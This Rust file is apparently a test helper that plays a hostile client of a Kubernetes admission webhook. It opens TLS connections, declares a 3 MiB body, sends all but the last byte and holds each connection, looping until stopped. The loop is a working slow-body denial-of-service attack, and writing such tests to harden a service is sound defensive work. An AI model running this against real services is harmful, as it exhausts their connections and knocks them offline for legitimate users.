//! A hostile client of the webhook: connections that declare a 3 MiB AdmissionReview, send all
//! of it but the last byte, and hold on, as any pod that can reach the webhook port could.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::Duration;

use rustls::pki_types::ServerName;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

/// Size of the body each attacker declares: the webhook's limit.
pub const BODY: usize = 3 * 1024 * 1024;

/// One attacker: connect, declare a [`BODY`], send all but its last byte, and hold the
/// connection until the server gives up on it; then do it again, until `stop`. `sent` counts
/// the body bytes written.
pub async fn hold_huge_bodies(
    addr: SocketAddr,
    tls: tokio_rustls::TlsConnector,
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
) {
    let chunk = vec![b' '; 64 * 1024];
    while !stop.load(Ordering::Relaxed) {
        let Ok(tcp) = tokio::net::TcpStream::connect(addr).await else {
            tokio::time::sleep(Duration::from_millis(100)).await;
            continue;
        };
        let Ok(name) = ServerName::try_from(addr.ip().to_string()) else {
            return;
        };
        let Ok(stream) = tls.connect(name, tcp).await else {
            continue;
        };
        let (mut reader, mut writer) = tokio::io::split(stream);
        let head = format!(
            "POST /validate HTTP/1.1\r\nHost: {addr}\r\nContent-Type: application/json\r\nContent-Length: {BODY}\r\n\r\n"
        );
        if writer.write_all(head.as_bytes()).await.is_err() {
            continue;
        }
        let mut left = BODY - 1;
        let mut answered = [0u8; 1];
        while left > 0 && !stop.load(Ordering::Relaxed) {
            let n = left.min(chunk.len());
            // The server may stop reading (back-pressure) or answer and close.
            tokio::select! {
                written = writer.write_all(&chunk[..n]) => {
                    if written.is_err() { break; }
                    left -= n;
                    sent.fetch_add(n as u64, Ordering::Relaxed);
                }
                _ = reader.read(&mut answered) => break,
            }
        }
        // Hold what was sent until the server answers or closes.
        let _ = tokio::time::timeout(Duration::from_secs(30), reader.read(&mut answered)).await;
    }
}
